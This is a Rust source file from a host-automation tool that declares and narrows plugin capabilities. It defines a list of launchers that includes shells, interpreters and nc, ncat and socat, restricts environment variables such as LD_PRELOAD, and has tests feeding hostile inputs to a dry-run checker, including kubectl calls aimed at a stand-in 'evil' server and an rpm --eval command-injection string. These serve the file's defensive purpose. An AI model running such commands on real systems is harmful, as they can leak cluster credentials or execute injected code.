//! Capabilities: what a plugin declares it may touch, and what a workflow
//! grants it. Consent is two-sided: an action must be allowed by both.

use serde::{Deserialize, Serialize};

/// What a plugin's actions may touch.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Capabilities {
    /// Programs `run` actions and guards may start: a bare name (found on
    /// the host's search path) or an absolute path, each matching only
    /// itself.
    pub programs: Vec<String>,
    /// Whether shell scripts are allowed.
    pub shell: bool,
    /// Path prefixes `put-file` may write.
    pub writes: Vec<String>,
    /// Path prefixes `fetch-file` may read.
    pub reads: Vec<String>,
    /// Whether the host may be rebooted.
    pub reboot: bool,
    /// Whether the plugin reads its bundled assets (mounted only when granted).
    pub assets: bool,
    /// Whether actions and probes may run as root. Contract 0.1 has no way
    /// to declare it, so every plugin declares it; a workflow can take it
    /// away (`grants = { sudo = false }`).
    pub sudo: bool,
    /// Environment variables that change how programs are found or loaded
    /// (PATH, LD_PRELOAD, ...) which actions may set: only what the
    /// workflow grants.
    pub env: Vec<String>,
    /// Launchers ([`is_launcher`]) the workflow's `grants.programs` names
    /// itself: they may run without `shell`. Empty in a declaration.
    pub launchers: Vec<String>,
    /// A dry run may start every read-only action and guard (a grant only).
    pub dry_run_reads: bool,
    /// Files may be written setuid or setgid (a grant only).
    pub setuid: bool,
}

/// Programs that run whatever code or command they are handed, so starting
/// one is as good as a shell: shells and interpreters, launchers that exec
/// their arguments (`env`, `nice`, `timeout`, `xargs`, `find -exec`),
/// `awk`'s `system()`, GNU `sed`'s `e` command and privilege tools. They
/// count as `shell`: refused under `shell = false` unless the workflow's
/// `grants.programs` names them. (Programs that can be talked into running
/// code by their own arguments, such as `rpm --eval '%(...)'`, `systemctl
/// link`, `docker run -v /:/h`, `kubectl exec`, are not on this list: what
/// a granted program can still do is in docs/reliability.md.)
pub const LAUNCHERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "ash",
    "zsh",
    "ksh",
    "mksh",
    "csh",
    "tcsh",
    "fish",
    "busybox",
    "env",
    "nice",
    "ionice",
    "nohup",
    "setsid",
    "timeout",
    "stdbuf",
    "chrt",
    "taskset",
    "flock",
    "chroot",
    "unshare",
    "nsenter",
    "xargs",
    "find",
    "parallel",
    "watch",
    "script",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "sed",
    "perl",
    "python",
    "python2",
    "python3",
    "ruby",
    "node",
    "nodejs",
    "php",
    "lua",
    "tclsh",
    "expect",
    "sudo",
    "su",
    "runuser",
    "doas",
    "pkexec",
    "systemd-run",
    "at",
    "batch",
    "crontab",
    "ssh",
    "strace",
    "ltrace",
    "gdb",
    "make",
    "vi",
    "vim",
    "ex",
    "ed",
    "prlimit",
    "setpriv",
    "setarch",
    "time",
    "runcon",
    "run-parts",
    "sg",
    "newgrp",
    "command",
    "capsh",
    "rbash",
    "chpst",
    "firejail",
    "bwrap",
    "unbuffer",
    "sudoedit",
    "machinectl",
    "systemd-nspawn",
    "numactl",
    "faketime",
    "torsocks",
    "proxychains",
    "valgrind",
    "socat",
    "nc",
    "ncat",
    "tmux",
    "screen",
];

/// Interpreters named with a version (`python3.11`, `perl5.36`, `ruby3.1`):
/// launchers too.
const INTERPRETER_PREFIXES: &[&str] = &["python", "perl", "ruby", "php", "lua", "node", "tclsh", "wish", "guile"];

/// Whether `argv0` (by basename) is a launcher: see [`LAUNCHERS`].
pub fn is_launcher(argv0: &str) -> bool {
    let base = argv0.rsplit('/').next().unwrap_or(argv0);
    LAUNCHERS.contains(&base) || INTERPRETER_PREFIXES.iter().any(|p| base.starts_with(p))
}

/// Environment variables an action may set without a grant: locale,
/// time zone and terminal, which change how a program prints, not what it
/// runs or loads. Any other name (PATH, LD_*, BASH_ENV, HOME with its
/// `~/.rpmmacros`, KUBECONFIG, OPENSSL_CONF, proxies, interpreters' paths)
/// must be granted by name (`grants = { env = ["NAME"] }`).
pub fn is_benign_env(name: &str) -> bool {
    name.starts_with("LC_") || matches!(name, "LANG" | "LANGUAGE" | "TZ" | "TERM" | "COLUMNS" | "LINES" | "NO_COLOR" | "DEBIAN_FRONTEND")
}

/// A workflow's narrowing of a step's capabilities. Absent fields keep what
/// the plugin declared; present ones restrict it.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Grants {
    /// Only these programs.
    pub programs: Option<Vec<String>>,
    /// Shell scripts allowed.
    pub shell: Option<bool>,
    /// Only under these path prefixes.
    pub writes: Option<Vec<String>>,
    /// Only under these path prefixes.
    pub reads: Option<Vec<String>>,
    /// Reboots allowed.
    pub reboot: Option<bool>,
    /// Mount the plugin's `NAME.assets/` folder read-only at `/assets`.
    /// Off unless granted: assets are one of the two things a grant adds,
    /// and only for a plugin that declares it reads them.
    pub assets: Option<bool>,
    /// Environment variables beyond locale and terminal (PATH, LD_*, HOME, ...) the step's actions
    /// may set: the other thing a grant adds; none unless granted.
    pub env: Option<Vec<String>>,
    /// Actions and probes may run as root.
    pub sudo: Option<bool>,
    /// Only these of the plugin's probes may run; a step whose plugin
    /// declares others is refused before any host is contacted.
    pub probes: Option<Vec<String>>,
    /// Let a dry run start the step's read-only actions and guards even
    /// when they are not among the queries plait knows ([`is_dry_run_query`]):
    /// "read-only" is the plugin's word, so by default a dry run starts
    /// only those.
    pub dry_run_reads: Option<bool>,
    /// Files may be written with the setuid or setgid bit.
    pub setuid: Option<bool>,
}

/// Commands a dry run may start on a plugin's word that they only read:
/// these programs, or these programs' subcommands (the first words that
/// are no options). Anything else marked read-only is listed, and runs in
/// a dry run only under `grants = { dry_run_reads = true }`.
pub const DRY_RUN_QUERIES: &[&[&str]] = &[
    &["cat"],
    &["ls"],
    &["test"],
    &["stat"],
    &["sha256sum"],
    &["head"],
    &["grep"],
    &["getent"],
    &["uname"],
    &["id"],
    &["systemctl", "is-active"],
    &["systemctl", "is-enabled"],
    &["systemctl", "show"],
    &["kubectl", "get"],
    &["kubectl", "version"],
    &["kubectl", "rollout", "status"],
    &["kubeadm", "version"],
    &["kubeadm", "upgrade", "plan"],
    &["kubeadm", "token", "list"],
];

/// Options known to take the next word as their value (kubectl's
/// `-n`/`-o`/`-l`, ...). Before the subcommand, any other option makes a
/// command no query: an option of unknown arity could swallow the word
/// taken for the subcommand (`systemctl -p show stop sshd` stops sshd).
/// `--server` and `--token` are not here: pointed elsewhere, a "query"
/// would send the kubeconfig's credentials there.
const VALUE_OPTIONS: &[&str] = &["-n", "--namespace", "-o", "--output", "--kubeconfig", "-l", "--selector"];

/// Whether `argv` is one of [`DRY_RUN_QUERIES`].
pub fn is_dry_run_query(argv: &[String]) -> bool {
    let Some((program, rest)) = argv.split_first() else { return false };
    // Reading a device can act (`cat /dev/watchdog` arms the watchdog), and
    // `/proc/self/fd/0` is the action's own stdin (a kubeconfig whose
    // `exec` credential runs a program).
    if rest.iter().any(|w| w.contains("/dev/") || w.contains("/proc/")) {
        return false;
    }
    // Any option, before or after the subcommand, must be one plait knows:
    // `--server`, `--token`, `--host` and the like send or run elsewhere.
    let known = |w: &String| {
        let name = w.split('=').next().unwrap_or(w);
        !w.starts_with('-') || VALUE_OPTIONS.contains(&name) || FLAG_OPTIONS.contains(&name)
    };
    DRY_RUN_QUERIES.iter().any(|q| q[0] == program && rest.iter().all(known) && subcommand_is(rest, &q[1..]))
}

/// Flags a query may carry anywhere besides [`VALUE_OPTIONS`]: they only
/// change what is printed or how long it waits.
const FLAG_OPTIONS: &[&str] = &[
    "-A",
    "--all-namespaces",
    "--no-headers",
    "--request-timeout",
    "--timeout",
    "-q",
    "--quiet",
    "-E",
    "-F",
    "-e",
    "-i",
    "-c",
    "-d",
    "-a",
    "-la",
    "-p",
    "--property",
    "--value",
    "-H",
    "-s",
    "-r",
    "--",
    "-f",
];

/// Whether the first words of `rest` that are no options are `sub`, with
/// only known options before and among them.
fn subcommand_is(rest: &[String], sub: &[&str]) -> bool {
    let mut found = 0;
    let mut i = 0;
    while found < sub.len() {
        let Some(w) = rest.get(i) else { return false };
        if let Some(opt) = w.strip_prefix('-') {
            let name = w.split('=').next().unwrap_or(w);
            if !VALUE_OPTIONS.contains(&name) || opt.is_empty() {
                return false;
            }
            // `--opt=value` holds its value; `-n VALUE` takes the next word.
            i += if w.contains('=') { 1 } else { 2 };
            continue;
        }
        if w != sub[found] {
            return false;
        }
        found += 1;
        i += 1;
    }
    true
}

/// Whether `path` is `prefix` itself or inside it (component-wise, so
/// `/etc/hosts` does not allow `/etc/hosts.allow`).
pub fn path_within(path: &str, prefix: &str) -> bool {
    if path == prefix {
        return true;
    }
    let dir = prefix.trim_end_matches('/');
    path.strip_prefix(dir).is_some_and(|rest| rest.starts_with('/'))
}

impl Capabilities {
    /// Narrow by the workflow's grants: the result allows only what both allow.
    pub fn narrow(&self, grants: &Grants) -> Capabilities {
        let keep = |declared: &Vec<String>, granted: &Option<Vec<String>>, within: fn(&str, &str) -> bool| match granted {
            None => declared.clone(),
            Some(g) => declared
                .iter()
                .filter(|d| g.iter().any(|x| within(d, x)))
                .cloned()
                .chain(g.iter().filter(|x| declared.iter().any(|d| within(x, d) && *x != d)).cloned())
                .collect(),
        };
        Capabilities {
            programs: keep(&self.programs, &grants.programs, |a, b| a == b),
            shell: self.shell && grants.shell.unwrap_or(true),
            writes: keep(&self.writes, &grants.writes, path_within),
            reads: keep(&self.reads, &grants.reads, path_within),
            reboot: self.reboot && grants.reboot.unwrap_or(true),
            assets: self.assets && grants.assets.unwrap_or(false),
            sudo: self.sudo && grants.sudo.unwrap_or(true),
            env: grants.env.clone().unwrap_or_default(),
            dry_run_reads: grants.dry_run_reads.unwrap_or(false),
            setuid: grants.setuid.unwrap_or(false),
            launchers: grants.programs.iter().flatten().filter(|p| is_launcher(p) && self.programs.contains(p)).cloned().collect(),
        }
    }

    /// Whether a program may start without the `shell` capability: any
    /// program but a launcher, and a launcher the workflow named.
    pub fn allows_without_shell(&self, argv0: &str) -> bool {
        !is_launcher(argv0) || self.launchers.iter().any(|l| l == argv0)
    }

    /// Whether a program (argv[0]) may be started: exactly as declared. A
    /// declared name allows that name (found on the search path), not some
    /// `/tmp/x/name`; a declared absolute path allows that path only.
    pub fn allows_program(&self, argv0: &str) -> bool {
        self.programs.iter().any(|p| p == argv0)
    }

    /// Whether actions may set the environment variable `name`.
    pub fn allows_env(&self, name: &str) -> bool {
        is_benign_env(name) || self.env.iter().any(|e| e == name)
    }

    /// Whether `path` may be written.
    pub fn allows_write(&self, path: &str) -> bool {
        self.writes.iter().any(|p| path_within(path, p))
    }

    /// Whether `path` may be read.
    pub fn allows_read(&self, path: &str) -> bool {
        self.reads.iter().any(|p| path_within(path, p))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn path_prefixes_match_whole_components() {
        // (path, prefix, allowed)
        let cases = [
            ("/etc/hosts", "/etc/hosts", true),
            ("/etc/hosts.allow", "/etc/hosts", false),
            ("/etc/yum.repos.d/k.repo", "/etc/yum.repos.d/", true),
            ("/etc/yum.repos.d/k.repo", "/etc/yum.repos.d", true),
            ("/etc/yum.repos.dx/k.repo", "/etc/yum.repos.d", false),
            ("/etc", "/etc/yum.repos.d/", false),
        ];
        for (path, prefix, want) in cases {
            assert_eq!(path_within(path, prefix), want, "{path} within {prefix}");
        }
    }

    #[test]
    fn a_dry_run_starts_only_known_queries() {
        let argv = |w: &[&str]| w.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        // (argv, may run in a dry run)
        for (a, want) in [
            (&["kubectl", "--kubeconfig=/etc/kubernetes/admin.conf", "get", "nodes", "-o", "name"][..], true),
            (&["kubectl", "-n", "kube-system", "get", "ds"][..], true),
            (&["kubectl", "-n", "kube-system", "rollout", "status", "ds/x"][..], true),
            (&["kubectl", "rollout", "undo", "ds/x"][..], false),
            (&["kubectl", "delete", "node", "get"][..], false),
            (&["rpm", "-e", "--nodeps", "glibc"][..], false),
            (&["rpm", "-q", "--eval", "%(touch /tmp/x)"][..], false),
            (&["cat", "/etc/hosts"][..], true),
            (&["/usr/bin/cat", "/etc/hosts"][..], false),
            (&["systemctl", "restart", "x"][..], false),
            (&["kubeadm", "upgrade", "plan", "v1.22.17"][..], true),
            (&["kubeadm", "upgrade", "apply", "v1.22.17"][..], false),
            // An option of unknown arity before the subcommand (review of this change).
            (&["systemctl", "-p", "show", "stop", "sshd"][..], false),
            (&["kubectl", "--cache-dir", "get", "delete", "node", "x"][..], false),
            (&["kubectl", "--server=http://evil", "get", "secrets"][..], false),
            (&["cat", "/dev/watchdog"][..], false),
            (&["kubectl", "get", "nodes", "-o", "name"][..], true),
            // Options after the subcommand count too (second review).
            (&["kubectl", "--kubeconfig=/proc/self/fd/0", "get", "nodes"][..], false),
            (&["kubectl", "get", "secrets", "--server=http://evil"][..], false),
            (&["kubectl", "get", "secrets", "--token=x"][..], false),
            (&["systemctl", "show", "--host=root@evil"][..], false),
        ] {
            assert_eq!(is_dry_run_query(&argv(a)), want, "{a:?}");
        }
    }

    #[test]
    fn grants_only_narrow() {
        let declared = Capabilities {
            programs: vec!["systemctl".into(), "sed".into()],
            shell: true,
            writes: vec!["/etc/".into()],
            reads: vec![],
            reboot: true,
            assets: true,
            sudo: true,
            env: vec![],
            launchers: vec![],
            dry_run_reads: false,
            setuid: false,
        };
        let g = Grants {
            programs: Some(vec!["sed".into(), "rm".into()]),
            shell: Some(false),
            writes: Some(vec!["/etc/hosts".into(), "/root/x".into()]),
            reads: None,
            reboot: None,
            assets: None,
            env: None,
            sudo: None,
            probes: None,
            dry_run_reads: None,
            setuid: None,
        };
        let n = declared.narrow(&g);
        // A grant can never add what the plugin did not declare (rm, /root/x).
        assert_eq!(n.programs, vec!["sed".to_string()]);
        assert!(!n.shell);
        assert!(n.allows_write("/etc/hosts"));
        assert!(!n.allows_write("/etc/passwd"));
        assert!(!n.allows_write("/root/x"));
        assert!(n.reboot);
        assert!(!n.assets, "assets need an explicit grant");
        assert!(declared.narrow(&Grants { assets: Some(true), ..Grants::default() }).assets);
    }

    #[test]
    fn programs_match_exactly_and_env_beyond_locale_needs_a_grant() {
        let c = Capabilities { programs: vec!["systemctl".into(), "/usr/sbin/ip".into()], ..Capabilities::default() };
        // (argv[0], allowed)
        for (argv0, want) in [
            ("systemctl", true),
            ("/tmp/x/systemctl", false), // a planted binary of the same name
            ("/usr/bin/systemctl", false),
            ("/usr/sbin/ip", true),
            ("ip", false),
        ] {
            assert_eq!(c.allows_program(argv0), want, "{argv0}");
        }
        for (name, want) in [
            ("LANG", true),
            ("LC_ALL", true),
            ("TZ", true),
            ("KUBECONFIG", false),
            ("HOME", false),
            ("OPENSSL_CONF", false),
            ("https_proxy", false),
            ("PYTHONUSERBASE", false),
            ("PATH", false),
            ("LD_PRELOAD", false),
            ("LD_LIBRARY_PATH", false),
            ("BASH_ENV", false),
        ] {
            assert_eq!(c.allows_env(name), want, "{name}");
        }
        let granted = c.narrow(&Grants { env: Some(vec!["LD_LIBRARY_PATH".into()]), ..Grants::default() });
        assert!(granted.allows_env("LD_LIBRARY_PATH") && !granted.allows_env("LD_PRELOAD"));
    }
}
